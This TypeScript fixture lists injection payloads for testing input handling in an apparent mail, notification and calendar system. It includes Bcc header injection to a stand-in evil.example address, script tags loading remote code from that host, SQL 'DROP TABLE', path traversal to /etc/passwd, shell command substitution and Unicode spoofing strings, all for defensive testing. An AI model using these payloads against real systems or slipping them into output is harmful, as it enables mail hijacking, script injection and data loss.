/** What strangers write where a name, a subject or a value is expected, and what it would do unescaped. */
export const INJECTIONS: readonly string[] = [
  // Headers of their own.
  'Acme\r\nBcc: eve@evil.example\r\nX-Injected: yes\r\n\r\nHello',
  'Acme\nBcc: eve@evil.example',
  'Acme\rTo: eve@evil.example',
  '=?utf-8?q?Acme=0D=0ABcc:_eve@evil.example=0D=0A?=',
  '=?utf-8?b?QWNtZQ0KQmNjOiBldmVAZXZpbC5leGFtcGxlDQo=?=',
  'Acme\u2028Bcc: eve@evil.example',
  'Acme\u0085Bcc: eve@evil.example',
  // Markup.
  '<img src=x onerror=alert(1)>',
  '"><script src=//evil.example/x.js></script>',
  '</td></tr></table><a href="https://evil.example/">done</a>',
  '<mj-raw><script>1</script></mj-raw>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--[if mso]><x><![endif]--><!--',
  'javascript:alert(1)',
  'https://evil.example/?done',
  // Addresses.
  'Sam <eve@evil.example>, Eve',
  '"Sam\\" <eve@evil.example>',
  'eve@evil.example?bcc=mallory@evil.example&body=x',
  '%0D%0ABcc:eve@evil.example',
  // Templates, keys, queries, paths.
  '{{constructor}}<%= 1 %>#{1}%{1}$(id)`id`',
  '__proto__',
  'constructor',
  'toString',
  'USER#0#A#PROFILE',
  'ADDRESS#x, TOKEN#y',
  "'; DROP TABLE people; -- ",
  '../../../../etc/passwd',
  '{"person":"other","digest":true}',
  // Calendars.
  'END:VEVENT\r\nBEGIN:VEVENT\r\nATTENDEE:mailto:eve@evil.example',
  ';TZID=Evil/Zone:20260101T000000',
  // Letters that hide, turn, pile up or are none.
  '\u202etnemyap\u202c',
  '\u2066\u2069\u200b\u200d\ufeff\u00ad',
  'a\u0300\u0301\u0302'.repeat(60),
  '\u0000\u0001\u0007\u001b[2J\u007f',
  '\ud800\udfff\ud83d',
  '👩‍👩‍👧‍👦'.repeat(40),
  'ﷺ'.repeat(50),
  'İıſK',
  // Commands of ours, where no command is meant.
  'stop',
  'forget me',
  'unsubscribe',
  'undo',
  // Too much, and nothing.
  'x'.repeat(5_000),
  'A '.repeat(3_000),
  '',
  ' ',
  '\t',
];
